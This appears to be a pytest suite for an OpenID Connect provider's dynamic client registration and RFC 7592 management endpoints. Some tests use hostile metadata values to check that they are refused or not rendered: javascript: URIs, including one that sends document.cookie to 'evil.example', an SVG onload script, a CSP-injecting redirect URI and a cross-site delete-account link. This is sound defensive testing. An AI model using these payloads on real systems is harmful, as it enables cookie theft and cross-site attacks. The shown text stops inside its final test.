"""Dynamic client registration (SPEC P7): RFC 7591 behind a one-time initial
access token, and RFC 7592 management with the registration access token, as
an integrator's tooling sees it."""

import datetime as dt
import html
import re
import secrets
import time
from concurrent.futures import ThreadPoolExecutor

import pytest
from joserfc import jwt
from joserfc.jwk import ECKey, KeySet
from sqlalchemy import func, select
from starlette.applications import Starlette
from starlette.responses import JSONResponse, PlainTextResponse
from starlette.routing import Route

from idp.protocol import remote
from idp.protocol.clients import create_client, new_initial_access_token
from idp.storage.models import Client
from tests import live
from tests.harness import REDIRECT, both_reach, callback, pkce, redeem

APP = "https://grants.example.tw/callback"


def _initial_token(provider, lifetime=3600) -> str:
    now = dt.datetime.fromtimestamp(provider.clock(), dt.timezone.utc)
    with provider.svc.db.session() as session:
        return new_initial_access_token(session, lifetime, now)


def _register(http, token, meta=None, **kwargs):
    headers = {"Authorization": f"Bearer {token}"} if token else {}
    if meta is not None:
        kwargs["json"] = meta
    return http.post("/register", headers=headers, **kwargs)


def _registered(provider, **meta) -> dict:
    meta = {"client_name": "研究計畫系統", "redirect_uris": [APP], **meta}
    response = _register(provider.http(), _initial_token(provider), meta)
    assert response.status_code == 201, response.text
    return response.json()


def _manage(http, info, method="GET", token=None, **kwargs):
    """As a client that follows RFC 7592 does: keep the token each response hands back."""
    sent = info["registration_access_token"] if token is None else token
    response = http.request(method, info["registration_client_uri"], headers={"Authorization": f"Bearer {sent}"}, **kwargs)
    if token is None and response.status_code == 200:
        info["registration_access_token"] = response.json()["registration_access_token"]
    return response


def _count_clients(provider) -> int:
    with provider.svc.db.session() as session:
        return session.execute(select(func.count()).select_from(Client)).scalar_one()


def _error(response, status: int, error: str):
    assert response.status_code == status, (response.status_code, response.text)
    assert response.json()["error"] == error, response.json()
    assert response.headers["cache-control"] == "no-store"


def _login(provider, client_id, secret, redirect_uri=APP) -> dict:
    """Log in through a third-party client: password, then the consent page."""
    browser = provider.browser()
    page = browser.password(browser.authorize(client_id, redirect_uri))
    if page.status_code == 200 and "/login/consent" in page.text:
        page = browser.submit(page, "/login/consent", button=("decision", "allow"))
    code = callback(page, redirect_uri)["code"]
    response = redeem(browser.http, client_id, secret, code, redirect_uri=redirect_uri)
    assert response.status_code == 200, response.text
    return response.json()


# -- RFC 7591 registration ---------------------------------------------------------------
def test_registration_returns_credentials_and_the_client_can_log_in(provider):
    provider.account("alice")
    info = _registered(provider)
    assert info["client_id"] and info["client_secret"] and info["client_secret_expires_at"] == 0
    assert info["registration_access_token"]
    assert info["registration_client_uri"] == f"{provider.issuer}/register/{info['client_id']}"
    assert info["redirect_uris"] == [APP] and info["client_name"] == "研究計畫系統"
    assert info["token_endpoint_auth_method"] == "client_secret_basic"
    assert info["grant_types"] == ["authorization_code", "refresh_token"]
    token = _login(provider, info["client_id"], info["client_secret"])
    assert token["id_token"] and token["refresh_token"]


def test_registration_response_is_not_cached(provider):
    response = _register(provider.http(), _initial_token(provider), {"redirect_uris": [APP]})
    assert response.status_code == 201 and response.headers["cache-control"] == "no-store"


def test_initial_access_token_is_good_for_one_registration(provider):
    token = _initial_token(provider)
    http = provider.http()
    assert _register(http, token, {"redirect_uris": [APP]}).status_code == 201
    again = _register(http, token, {"redirect_uris": [APP]})
    _error(again, 401, "invalid_token")
    assert again.headers["www-authenticate"].startswith("Bearer")
    assert _count_clients(provider) == 1


def test_registration_without_a_token_is_401(provider):
    http = provider.http()
    _error(_register(http, None, {"redirect_uris": [APP]}), 401, "invalid_token")
    _error(_register(http, "made-up", {"redirect_uris": [APP]}), 401, "invalid_token")
    basic = http.post("/register", json={"redirect_uris": [APP]}, auth=("someone", "secret"))
    _error(basic, 401, "invalid_token")
    assert _count_clients(provider) == 0


def test_expired_initial_access_token_is_401(provider):
    token = _initial_token(provider, lifetime=3600)
    provider.clock.advance(3601)
    _error(_register(provider.http(), token, {"redirect_uris": [APP]}), 401, "invalid_token")
    assert _count_clients(provider) == 0


def test_bad_bodies_are_invalid_client_metadata(provider):
    token = _initial_token(provider)
    http = provider.http()
    headers = {"Authorization": f"Bearer {token}", "content-type": "application/json"}
    for body in (b'{"redirect_uris": [', b'[{"redirect_uris": []}]', b'"text"', b"\xff\xfe",
                 b'{"redirect_uris": ["https://grants.example.tw/cb"], "client_name": "a\\u0000b"}',  # NUL: PostgreSQL refuses it
                 b'{"jwks": ' + b"[" * 900 + b"]" * 900 + b"}"):  # nested past what recursion takes
        _error(http.post("/register", content=body, headers=headers), 400, "invalid_client_metadata")
    form = http.post("/register", data={"redirect_uris": APP}, headers={"Authorization": f"Bearer {token}"})
    _error(form, 400, "invalid_client_metadata")
    assert _count_clients(provider) == 0
    # A refused request did not use the token up.
    assert _register(http, token, {"redirect_uris": [APP]}).status_code == 201


def test_bad_redirect_uris_are_refused_and_nothing_is_stored(provider):
    token = _initial_token(provider)
    http = provider.http()
    for uris in (
        ["http://grants.example.tw/callback"],  # plain http off localhost
        ["https://grants.example.tw/callback#frag"],
        ["https://grants.example.tw/callback#"],  # an empty fragment is one too: the code would travel in it
        ["https://grants example.tw/callback"],  # no host name: pages and headers would repeat it
        ["https://grants.example.tw;frame-src */callback"],
        ["https://grants.example.tw/callback\n"],
        ["https://grants.example.tw:0/callback"],
        ["grants.example.tw/callback"],
        ["javascript:alert(1)"],
        ["https://user:pass@grants.example.tw/callback"],
        ["https://*.example.tw/callback"],
        ["https://[::1/callback"],  # no URI at all: urlsplit refuses it
        ["https://grants.example.tw:port/callback"],
        [],  # authorization_code needs somewhere to go
    ):
        _error(_register(http, token, {"redirect_uris": uris}), 400, "invalid_redirect_uri")
    _error(_register(http, token, {"redirect_uris": APP}), 400, "invalid_client_metadata")  # not a list
    _error(_register(http, token, {"redirect_uris": [APP], "post_logout_redirect_uris": ["http://grants.example.tw/"]}),
           400, "invalid_redirect_uri")
    assert _count_clients(provider) == 0
    # Loopback http is fine (native apps, RFC 8252); so is a container's name, "_" and all.
    assert _register(http, token, {"redirect_uris": ["http://127.0.0.1:8080/cb"]}).status_code == 201
    assert _register(http, _initial_token(provider), {"redirect_uris": ["https://school_portal:8443/cb"]}).status_code == 201
    assert _count_clients(provider) == 2


def test_bad_metadata_values_are_invalid_client_metadata(provider):
    token = _initial_token(provider)
    http = provider.http()
    for meta in (
        {"grant_types": ["authorization_code", "password"]},
        {"grant_types": ["urn:ietf:params:oauth:grant-type:device_code"]},
        {"response_types": ["token"]},
        {"token_endpoint_auth_method": "client_secret_jwt"},
        {"token_endpoint_auth_method": "none", "grant_types": ["client_credentials"]},
        {"token_endpoint_auth_method": "private_key_jwt"},  # without jwks
        {"token_endpoint_auth_method": "private_key_jwt", "jwks": {"keys": [{"kty": "oct", "k": "YS1zZWNyZXQtc2hhcmVkLWJ5LWFsbC1yZWFkZXJz"}]}},
        {"id_token_signed_response_alg": "none"},
        {"subject_type": "mine"},
        {"scope": "openid admin"},
        # A sector's document is read over https only.
        {"subject_type": "pairwise", "sector_identifier_uri": "http://portal.example.tw/sector.json"},
        {"subject_type": "pairwise", "redirect_uris": [APP, "https://portal.example.tw/callback"]},
        # What the provider would not honour is refused, never registered and then ignored.
        {"id_token_encrypted_response_alg": "RSA-OAEP", "id_token_encrypted_response_enc": "A128CBC-HS256"},
        {"token_endpoint_auth_method": "private_key_jwt", "token_endpoint_auth_signing_alg": "HS256",
         "jwks": {"keys": [{"kty": "EC", "crv": "P-256", "x": "f83OJ3D2xF1Bg8vub9tLe1gHMzV76e8Tus9uPHvRVEU",
                            "y": "x_FEzRu9m36HLN_tue659LNpXW6pCyStikYjKIWI5a0"}]}},
        {"userinfo_signed_response_alg": "ES256"},
        # Keys by value or by reference, not both (Registration 1.0 2); by reference over https.
        {"token_endpoint_auth_method": "private_key_jwt", "jwks_uri": "https://grants.example.tw/jwks.json",
         "jwks": {"keys": [{"kty": "EC", "crv": "P-256", "x": "f83OJ3D2xF1Bg8vub9tLe1gHMzV76e8Tus9uPHvRVEU",
                            "y": "x_FEzRu9m36HLN_tue659LNpXW6pCyStikYjKIWI5a0"}]}},
        {"token_endpoint_auth_method": "private_key_jwt", "jwks_uri": "http://grants.example.tw/jwks.json"},
        {"request_uris": ["https://grants.example.tw/request.jwt"]},
        {"default_acr_values": ["urn:idp:loa:9"]},
        {"default_acr_values": [["urn:idp:loa:2"]]},
        # An algorithm none of its keys can make: a client that could never authenticate.
        {"token_endpoint_auth_method": "private_key_jwt", "token_endpoint_auth_signing_alg": "RS256",
         "jwks": {"keys": [{"kty": "EC", "crv": "P-256", "x": "f83OJ3D2xF1Bg8vub9tLe1gHMzV76e8Tus9uPHvRVEU",
                            "y": "x_FEzRu9m36HLN_tue659LNpXW6pCyStikYjKIWI5a0"}]}},
        {"default_max_age": "300"},
        {"require_auth_time": "yes"},
        # Grant and response types that cannot work together (RFC 7591 2.1), or nothing at all.
        {"response_types": ["code"], "grant_types": ["client_credentials"]},
        {"grant_types": []},
        {"client_name": {"zh-TW": "研究計畫系統"}},
        {"client_name": "研" * 301},
        # Framed by the provider's logged-out page: the client's own origin only (Front-Channel Logout 2).
        {"frontchannel_logout_uri": "https://victim.example.org/settings/delete-account?confirm=yes"},
        {"frontchannel_logout_uri": "https://grants.example.tw:8443/logout"},
        # The login pages link to these: only the client's https pages, never a script to run.
        {"policy_uri": "javascript:alert(document.cookie)"},
        {"tos_uri#en": "http://grants.example.tw/terms"},
        {"logo_uri": "data:image/svg+xml,<svg onload=alert(1)>"},
        {"client_uri": "https://grants.example.tw/\"><script>"},
    ):
        _error(_register(http, token, {"redirect_uris": [APP], **meta}), 400, "invalid_client_metadata")
    assert _count_clients(provider) == 0


def test_registration_cannot_grant_itself_provider_policy(provider):
    """first_party (no consent screen) and the like are the provider's to give."""
    provider.account("alice")
    info = _registered(provider, first_party=True, minimum_acr="urn:idp:loa:1", allowed_factors=["password"],
                       access_token_lifetime=10 * 365 * 86400, refresh_token_lifetime=100 * 365 * 86400)
    assert info["first_party"] is False
    for policy in ("minimum_acr", "allowed_factors", "access_token_lifetime", "refresh_token_lifetime"):
        assert policy not in info
    browser = provider.browser()
    page = browser.password(browser.authorize(info["client_id"], APP))
    assert page.status_code == 200 and "/login/consent" in page.text
    page = browser.submit(page, "/login/consent", button=("decision", "allow"))
    token = redeem(browser.http, info["client_id"], info["client_secret"], callback(page, APP)["code"], redirect_uri=APP).json()
    assert token["expires_in"] == 600


def test_metadata_the_provider_does_not_know_is_not_registered(provider):
    """RFC 7591 2: unknown metadata is ignored, so the response does not list it as registered."""
    info = _registered(provider, frontchannel_logout_uri="https://grants.example.tw/logout", future_feature=True,
                       initiate_login_uri="https://grants.example.tw/start", application_type="native",
                       **{"client_name#en": "Research grants"})
    assert "future_feature" not in info and "initiate_login_uri" not in info and "application_type" not in info
    assert info["client_name#en"] == "Research grants" and info["frontchannel_logout_uri"].endswith("/logout")
    assert "future_feature" not in _manage(provider.http(), info).json()


class _ClientHost:
    """A client's web host (``url``): its jwks_uri /jwks.json (its current public keys, fetches
    counted) and its sector_identifier_uri /sector.json (``sector``: the sector's redirect URIs)."""

    def __init__(self):
        self.keys, self.fetches, self.url, self.sector = [], 0, "", []

    async def sector_document(self, request):
        return JSONResponse(self.sector)

    async def jwks(self, request):
        self.fetches += 1
        return JSONResponse({"keys": [key.as_dict(private=False) for key in self.keys]})

    async def huge(self, request):  # keys that would do, but past the size limit
        return JSONResponse({"keys": [key.as_dict(private=False) for key in self.keys] * (remote.MAX_BYTES // 100)})

    def app(self):
        return Starlette(routes=[Route("/jwks.json", self.jwks), Route("/huge.json", self.huge),
                                 Route("/sector.json", self.sector_document),
                                 Route("/healthz", lambda request: PlainTextResponse("ok"))])


@pytest.fixture
def client_host():
    host = _ClientHost()
    with live.reserve() as (sock, url):
        host.url = url
        with live.serve(host.app(), sock, url):
            yield host


def _with_key(provider, key, client_id):
    """A client_credentials request authenticated by an assertion signed with ``key`` (RFC 7523)."""
    now = int(time.time())  # authlib checks the assertion's exp against the wall clock
    assertion = jwt.encode({"alg": "ES256", "kid": key.kid}, {
        "iss": client_id, "sub": client_id, "aud": provider.issuer + "/token", "iat": now,
        "exp": now + 120, "jti": secrets.token_urlsafe(16)}, key)
    return provider.http().post("/token", data={"grant_type": "client_credentials", "client_assertion": assertion,
                                     "client_assertion_type": "urn:ietf:params:oauth:client-assertion-type:jwt-bearer"})


def test_a_private_key_jwt_client_registers_its_jwks_uri_and_authenticates_with_its_keys(provider, client_host):
    """OIDC Registration 1.0 2: jwks_uri instead of jwks. The keys are fetched when the client
    authenticates, kept a while, and fetched again at once for a key the client rotated in."""
    first = ECKey.generate_key("P-256", parameters={"kid": "2026-1"}, private=True)
    client_host.keys = [first]
    info = _registered(provider, redirect_uris=[], grant_types=["client_credentials"],
                       token_endpoint_auth_method="private_key_jwt", jwks_uri=client_host.url + "/jwks.json")
    assert info["jwks_uri"] == client_host.url + "/jwks.json" and "client_secret" not in info
    for _ in range(2):
        response = _with_key(provider, first, info["client_id"])
        assert response.status_code == 200 and response.json()["access_token"], response.text
    assert client_host.fetches == 1  # kept, not fetched per request
    second = ECKey.generate_key("P-256", parameters={"kid": "2026-2"}, private=True)
    client_host.keys = [second]  # rotated
    provider.clock.advance(remote.REFETCH_SECONDS)
    assert _with_key(provider, second, info["client_id"]).status_code == 200
    assert client_host.fetches == 2
    # Retired keys are refused, and made-up kids fetch nothing more.
    for key in (first, ECKey.generate_key("P-256", parameters={"kid": "forged"}, private=True)):
        _error(_with_key(provider, key, info["client_id"]), 400, "invalid_client")
    assert client_host.fetches == 2
    provider.clock.advance(remote.KEYS_SECONDS)
    assert _with_key(provider, second, info["client_id"]).status_code == 200 and client_host.fetches == 3


@pytest.mark.parametrize("path", ["/missing.json", "/huge.json"])
def test_a_jwks_uri_that_cannot_be_read_is_invalid_client(provider, client_host, path):
    key = ECKey.generate_key("P-256", parameters={"kid": "k"}, private=True)
    client_host.keys = [key]
    info = _registered(provider, redirect_uris=[], grant_types=["client_credentials"],
                       token_endpoint_auth_method="private_key_jwt", jwks_uri=client_host.url + path)
    _error(_with_key(provider, key, info["client_id"]), 400, "invalid_client")


RESEARCH = "https://research.example.tw/callback"


def _sub(provider, info, redirect_uri=APP) -> str:
    return jwt.decode(_login(provider, info["client_id"], info["client_secret"], redirect_uri)["id_token"],
                      KeySet.import_key_set(provider.http().get("/jwks").json())).claims["sub"]


def test_a_pairwise_client_registers_a_sector_identifier_uri_and_its_subjects_are_its_sectors(provider, client_host):
    """OIDC Core 8.1, Registration 1.0 5: redirect URIs at several hosts, listed in the document at
    sector_identifier_uri; the sub is the same at each, and computed for that URI's host."""
    provider.account("alice")
    client_host.sector = [APP, RESEARCH, "https://archive.example.tw/cb"]
    sector_uri = client_host.url + "/sector.json"
    info = _registered(provider, redirect_uris=[APP, RESEARCH], subject_type="pairwise", sector_identifier_uri=sector_uri)
    assert info["sector_identifier_uri"] == sector_uri
    sub = _sub(provider, info)
    assert _sub(provider, info, RESEARCH) == sub
    # Another client of the sector knows alice by the same sub; one at APP's host alone, by another.
    archive = _registered(provider, redirect_uris=["https://archive.example.tw/cb"], subject_type="pairwise",
                          sector_identifier_uri=sector_uri)
    assert _sub(provider, archive, "https://archive.example.tw/cb") == sub
    assert _sub(provider, _registered(provider, subject_type="pairwise")) != sub


def test_a_sector_identifier_uri_must_list_every_redirect_uri(provider, client_host):
    """Registration 1.0 5: else a registration could name another client's sector and learn the
    subjects its users have there."""
    token, http = _initial_token(provider), provider.http()
    meta = {"redirect_uris": [APP, RESEARCH], "subject_type": "pairwise", "sector_identifier_uri": client_host.url + "/sector.json"}
    for document in ([RESEARCH], {"redirect_uris": [APP, RESEARCH]}, APP):
        client_host.sector = document
        _error(_register(http, token, meta), 400, "invalid_client_metadata")
    _error(_register(http, token, {**meta, "sector_identifier_uri": client_host.url + "/missing.json"}), 400,
           "invalid_client_metadata")
    assert _count_clients(provider) == 0
    # RFC 7592: the redirect URIs of an update are checked against the document too, where the
    # update names the sector_identifier_uri and where it leaves it as it was.
    client_host.sector = [APP, RESEARCH]
    info = _registered(provider, **meta)
    client_host.sector = [APP]
    for update in ({"redirect_uris": [RESEARCH]}, meta):
        _error(_manage(http, info, "PUT", json={"client_id": info["client_id"], "subject_type": "pairwise", **update}),
               400, "invalid_client_metadata")
    assert _manage(http, info, "PUT", json={"client_id": info["client_id"], "subject_type": "pairwise",
                                             "redirect_uris": [APP]}).status_code == 200


def _client_pages(page) -> dict:
    """The client's pages the login page links to: {"policy"|"terms": (href, text)}."""
    found = re.findall(r'<a href="([^"]+)" target="_blank" rel="noopener noreferrer" data-client-page="(\w+)">([^<]*)</a>',
                       page.text)
    return {kind: (html.unescape(href), text) for href, kind, text in found}


def test_the_login_and_consent_pages_link_the_clients_policy_and_terms(provider):
    """OIDC Registration 1.0 2: policy_uri and tos_uri the provider SHOULD show the user, here
    with the client's name, in the page's language (RFC 7591 2.2)."""
    provider.account("alice")
    info = _registered(provider, policy_uri="https://grants.example.tw/privacy?lang=zh&v=2",
                       tos_uri="https://grants.example.tw/terms", **{"policy_uri#en": "https://grants.example.tw/en/privacy"})
    browser = provider.browser()
    page = browser.authorize(info["client_id"], APP)
    assert _client_pages(page) == {"policy": ("https://grants.example.tw/privacy?lang=zh&v=2", "「研究計畫系統」隱私權政策"),
                                   "terms": ("https://grants.example.tw/terms", "「研究計畫系統」服務條款")}
    consent = browser.password(page)
    assert "/login/consent" in consent.text and _client_pages(consent) == _client_pages(page)
    english = provider.browser().authorize(info["client_id"], APP, ui_locales="en")
    assert _client_pages(english) == {"policy": ("https://grants.example.tw/en/privacy", "Privacy policy of “研究計畫系統”"),
                                      "terms": ("https://grants.example.tw/terms", "Terms of service of “研究計畫系統”")}
    assert _client_pages(provider.browser().authorize(_registered(provider)["client_id"], APP)) == {}


def test_the_login_page_shows_the_clients_logo_without_a_referrer(provider):
    """Registration 1.0 2: logo_uri, shown as an image the page's policy allows, from that
    origin alone, and fetched without telling the logo's host the login page's address."""
    info = _registered(provider, logo_uri="https://cdn.example.tw:8443/grants/logo.png")
    page = provider.browser().authorize(info["client_id"], APP)
    assert '<img class="client-logo" src="https://cdn.example.tw:8443/grants/logo.png" alt="" ' \
           'referrerpolicy="no-referrer">' in page.text
    policy = dict(part.strip().split(" ", 1) for part in page.headers["content-security-policy"].split(";"))
    assert policy["img-src"] == "'self' data: https://cdn.example.tw:8443"
    plain = provider.browser().authorize(_registered(provider)["client_id"], APP)
    assert "client-logo" not in plain.text and "cdn.example.tw" not in plain.headers["content-security-policy"]


def test_a_policy_link_stored_before_links_were_checked_is_not_shown(provider):
    info = _registered(provider, tos_uri="https://grants.example.tw/terms")
    with provider.svc.db.session() as session:
        row = session.get(Client, info["client_id"])
        row.metadata_ = {**row.metadata_, "policy_uri": "javascript:fetch('//evil.example/'+document.cookie)"}
    page = provider.browser().authorize(info["client_id"], APP)
    assert list(_client_pages(page)) == ["terms"] and "javascript:" not in page.text


def test_a_client_that_names_no_id_token_algorithm_is_told_the_one_its_tokens_carry(provider):
    """OIDC Registration 1.0 2: a client that leaves id_token_signed_response_alg out takes RS256
    to be meant. The provider signs with ES256 by default (SPEC P1), so its registration, reads
    and updates name that (RFC 7591 3.2.1), and its ID tokens carry what they name."""
    provider.account("alice")
    http = provider.http()
    keys = KeySet.import_key_set(http.get("/jwks").json())
    for named in ({}, {"id_token_signed_response_alg": "RS256"}):
        info = _registered(provider, **named)
        alg = info["id_token_signed_response_alg"]
        assert alg == named.get("id_token_signed_response_alg", "ES256")
        token = _login(provider, info["client_id"], info["client_secret"])
        assert jwt.decode(token["id_token"], keys).header["alg"] == alg
        assert _manage(http, info).json()["id_token_signed_response_alg"] == alg
        update = _manage(http, info, "PUT", json={"client_id": info["client_id"], "redirect_uris": [APP]})
        assert update.json()["id_token_signed_response_alg"] == "ES256"  # omitted again: the provider's, said again


def test_the_clients_default_acr_and_max_age_stand_in_for_the_request(provider):
    """OIDC Dynamic Registration 2: default_acr_values and default_max_age apply to requests
    that leave acr_values and max_age out."""
    provider.account("alice")
    info = _registered(provider, default_acr_values=["urn:idp:loa:2"], default_max_age=300)
    browser = provider.browser()
    page = browser.password(browser.authorize(info["client_id"], APP))
    assert page.status_code == 200 and 'name="otp"' in page.text  # LOA2: the password is not enough

    first, second = _registered(provider), _registered(provider, default_max_age=300)
    other = provider.browser()
    page = other.password(other.authorize(first["client_id"], APP))  # an SSO session, password only
    assert "code" in callback(other.submit(page, "/login/consent", button=("decision", "allow")), APP)
    provider.clock.advance(301)
    page = other.authorize(second["client_id"], APP)
    assert page.status_code == 200 and "/login/factor/password" in page.text  # older than its max_age


def test_registration_ignores_server_assigned_fields(provider):
    info = _registered(provider, client_id="portal", client_secret="chosen-by-me", registration_access_token="mine",
                       client_id_issued_at=1)
    assert info["client_id"] != "portal"
    assert info["client_secret"] != "chosen-by-me" and info["registration_access_token"] != "mine"
    read = _manage(provider.http(), info).json()
    assert read["client_id"] == info["client_id"] and read["client_id_issued_at"] != 1
    assert "client_secret" not in read and read.get("registration_access_token") != "mine"


def test_a_clients_issue_time_reads_back_the_same_on_a_machine_in_taiwan_time(provider, monkeypatch):
    """SQLite keeps no zone: the time read back was taken for local time, 8 hours off."""
    monkeypatch.setenv("TZ", "Asia/Taipei")
    time.tzset()
    try:
        info = _registered(provider)
        assert _manage(provider.http(), info).json()["client_id_issued_at"] == info["client_id_issued_at"]
    finally:
        monkeypatch.undo()
        time.tzset()


def test_public_client_registers_without_a_secret(provider):
    info = _registered(provider, token_endpoint_auth_method="none")
    assert "client_secret" not in info and info["token_endpoint_auth_method"] == "none"


# -- RFC 7592 management -----------------------------------------------------------------
def test_read_returns_the_registration_without_the_secret(provider):
    info = _registered(provider, post_logout_redirect_uris=["https://grants.example.tw/"])
    response = _manage(provider.http(), info)
    assert response.status_code == 200 and response.headers["cache-control"] == "no-store"
    read = response.json()
    assert read["client_id"] == info["client_id"] and read["redirect_uris"] == [APP]
    assert read["post_logout_redirect_uris"] == ["https://grants.example.tw/"]
    assert read["registration_client_uri"] == info["registration_client_uri"]
    assert "client_secret" not in read


def test_each_response_hands_out_a_new_registration_token(provider):
    """RFC 7592 3: the response carries registration_access_token; only its hash
    is kept, so each read or update issues a new one and the old one stops working."""
    info = _registered(provider)
    http = provider.http()
    first = info["registration_access_token"]
    read = _manage(http, info).json()
    assert read["registration_access_token"] not in ("", first)
    _error(_manage(http, info, token=first), 401, "invalid_token")
    second = info["registration_access_token"]
    update = _manage(http, info, "PUT", json={"client_id": info["client_id"], "redirect_uris": [APP]})
    assert update.status_code == 200 and update.json()["registration_access_token"] != second
    _error(_manage(http, info, token=second), 401, "invalid_token")
    assert _manage(http, info).status_code == 200


def test_management_needs_this_clients_registration_token(provider):
    info = _registered(provider)
    other = _registered(provider)
    http = provider.http()
    _error(_manage(http, info, token="wrong"), 401, "invalid_token")
    _error(_manage(http, info, token=other["registration_access_token"]), 401, "invalid_token")
    _error(_manage(http, info, token=info["client_secret"]), 401, "invalid_token")
    _error(http.get(info["registration_client_uri"]), 401, "invalid_token")
    _error(_manage(http, info, "DELETE", token="wrong"), 401, "invalid_token")
    # An unknown client looks the same as a wrong token: nothing to learn.
    _error(_manage(http, {**info, "registration_client_uri": f"{provider.issuer}/register/nope"}), 401, "invalid_token")
    # A client registered by an administrator has no registration token at all.
    admin_client, _ = provider.client()
    _error(_manage(http, {**info, "registration_client_uri": f"{provider.issuer}/register/{admin_client}"}), 401,
           "invalid_token")
    assert _manage(http, info).status_code == 200


def test_one_registration_token_is_spent_once_by_requests_at_once(provider):
    """RFC 7592 3: each answer hands out a new token and spends the old one. Two reads at once
    with one token (two copies of an integrator's tool, a retry) must not both succeed: the
    token answered first would already be dead when its client got it."""
    from idp.protocol.clients import digest

    info = _registered(provider)
    with both_reach(provider.svc.db.engine, "SELECT CLIENTS"), ThreadPoolExecutor(2) as pool:
        answers = list(pool.map(lambda _: _manage(provider.http(), info), range(2)))
    assert sorted(a.status_code for a in answers) == [200, 401]
    [ok] = [a for a in answers if a.status_code == 200]
    with provider.svc.db.session() as session:
        stored = session.get(Client, info["client_id"]).registration_token_hash
    assert digest(ok.json()["registration_access_token"]) == stored


def test_update_replaces_redirect_uris(provider):
    provider.account("alice")
    info = _registered(provider)
    http = provider.http()
    new = "https://grants.example.tw/v2/callback"
    update = {"client_id": info["client_id"], "client_name": "研究計畫系統 v2", "redirect_uris": [new]}
    response = _manage(http, info, "PUT", json=update)
    assert response.status_code == 200, response.text
    assert response.json()["redirect_uris"] == [new] and response.json()["client_name"] == "研究計畫系統 v2"
    assert _manage(http, info).json()["redirect_uris"] == [new]
    # The old address is no longer trusted; the new one works, with the old secret.
    old = provider.browser().authorize(info["client_id"], APP)
    assert old.status_code == 400 and "location" not in old.headers
    assert _login(provider, info["client_id"], info["client_secret"], new)["id_token"]


def test_update_cannot_move_a_client_into_another_sector(provider):
    """A pairwise client's subjects are computed for its redirect URIs' host (OIDC Core 8.1):
    one that moved there after its users logged in would name them, in its tokens' userinfo
    and refreshes, by the subjects another client of that host knows them by."""
    info = _registered(provider, subject_type="pairwise")
    http = provider.http()
    for moved in ({"redirect_uris": ["https://school.example.tw/cb"], "subject_type": "pairwise"},
                  {"redirect_uris": [APP]}):  # public: its subjects would change too
        _error(_manage(http, info, "PUT", json={"client_id": info["client_id"], **moved}), 400, "invalid_client_metadata")
    same_host = {"client_id": info["client_id"], "redirect_uris": [APP + "/v2"], "subject_type": "pairwise"}
    assert _manage(http, info, "PUT", json=same_host).status_code == 200
    public = _registered(provider)
    _error(_manage(http, public, "PUT", json={"client_id": public["client_id"], "redirect_uris": [APP],
                                              "subject_type": "pairwise"}), 400, "invalid_client_metadata")


def test_a_client_with_a_sector_identifier_uri_keeps_its_sector_through_updates(provider, client_host):
    """An update that leaves the sector_identifier_uri out keeps it: its subjects stay."""
    client_host.sector = [APP]
    info = _registered(provider, subject_type="pairwise", sector_identifier_uri=client_host.url + "/sector.json")
    update = {"client_id": info["client_id"], "client_name": "v2", "redirect_uris": [APP], "subject_type": "pairwise"}
    assert _manage(provider.http(), info, "PUT", json=update).status_code == 200
    with provider.svc.db.session() as session:
        assert session.get(Client, info["client_id"]).metadata_["sector_identifier_uri"] == client_host.url + "/sector.json"


def test_update_needs_the_client_id_and_valid_metadata(provider):
    info = _registered(provider)
    http = provider.http()
    _error(_manage(http, info, "PUT", json={"redirect_uris": ["https://grants.example.tw/x"]}), 400, "invalid_request")
    _error(_manage(http, info, "PUT", json={"client_id": "another", "redirect_uris": [APP]}), 400, "invalid_request")
    _error(_manage(http, info, "PUT", json={"client_id": info["client_id"], "redirect_uris": ["http://evil.example.com/"]}),
           400, "invalid_redirect_uri")
    _error(_manage(http, info, "PUT", json={"client_id": info["client_id"], "redirect_uris": [APP], "client_secret": "guess"}),
           400, "invalid_request")
    _error(_manage(http, info, "PUT", json={"client_id": info["client_id"], "redirect_uris": [APP],
                                            "token_endpoint_auth_method": "none"}), 400, "invalid_client_metadata")
    broken = http.put(info["registration_client_uri"], content=b"{", headers={
        "Authorization": f"Bearer {info['registration_access_token']}", "content-type": "application/json"})
    _error(broken, 400, "invalid_client_metadata")
    assert _manage(http, info).json()["redirect_uris"] == [APP]


def test_update_keeps_the_authentication_method_when_omitted(provider):
    """A public client that leaves token_endpoint_auth_method out of its PUT must
    not silently become a confidential client without a secret."""
    provider.account("alice")
    info = _registered(provider, token_endpoint_auth_method="none")
    http = provider.http()
    response = _manage(http, info, "PUT", json={"client_id": info["client_id"], "redirect_uris": [APP]})
    assert response.status_code == 200 and response.json()["token_endpoint_auth_method"] == "none"
    # And it still logs users in, as the public client it is.
    verifier, challenge = pkce()
    browser = provider.browser()
    page = browser.password(browser.authorize(info["client_id"], APP, code_challenge=challenge, code_challenge_method="S256"))
    page = browser.submit(page, "/login/consent", button=("decision", "allow"))
    token = redeem(browser.http, info["client_id"], None, callback(page, APP)["code"], verifier, redirect_uri=APP)
    assert token.status_code == 200, token.text


def test_update_cannot_grant_provider_policy(provider):
    info = _registered(provider)
    http = provider.http()
    response = _manage(http, info, "PUT", json={"client_id": info["client_id"], "redirect_uris": [APP], "first_party": True,
                                                "access_token_lifetime": 10 * 365 * 86400})
    assert response.status_code == 200
    assert response.json()["first_party"] is False and "access_token_lifetime" not in response.json()


def test_update_keeps_the_administrators_policy(provider):
    with provider.svc.db.session() as session:
        row, _, reg = create_client(session, {"redirect_uris": [APP], "minimum_acr": "urn:idp:loa:2", "access_token_lifetime": 300},
                                    with_registration_token=True)
        client_id = row.client_id
    info = {"registration_access_token": reg, "registration_client_uri": f"{provider.issuer}/register/{client_id}"}
    response = _manage(provider.http(), info, "PUT", json={"client_id": client_id, "redirect_uris": [APP], "access_token_lifetime": 86400})
    assert response.status_code == 200, response.text
    assert response.json()["minimum_acr"] == "urn:idp:loa:2" and response.json()["access_token_lifetime"] == 300


def test_delete_ends_the_client(provider):
    provider.account("alice")
    info = _registered(provider)
    token = _login(provider, info["client_id"], info["client_secret"])
    http = provider.http()
    response = _manage(http, info, "DELETE")
    assert response.status_code == 204 and response.content == b""
    # The portal can no longer send users to log in: an error page, never a redirect.
    page = provider.browser().authorize(info["client_id"], APP)
    assert page.status_code == 400 and "location" not in page.headers and "invalid_client" in page.text
    _error(_manage(http, info), 401, "invalid_token")
    _error(_manage(http, info, "DELETE"), 401, "invalid_token")
    # What it was issued is worthless now.
    assert http.get("/userinfo", headers={"Authorization": f"Bearer {token['access_token']}"}).status_code == 401
    refresh = http.post("/token", data={"grant_type": "refresh_token", "refresh_token": token["refresh_token"]},
                        auth=(info["client_id"], info["client_secret"]))
    _error(refresh, 401, "invalid_client")
    assert _count_clients(provider) == 0


def test_admin_clients_are_unaffected_by_registration(provider):
    provider.account("alice")
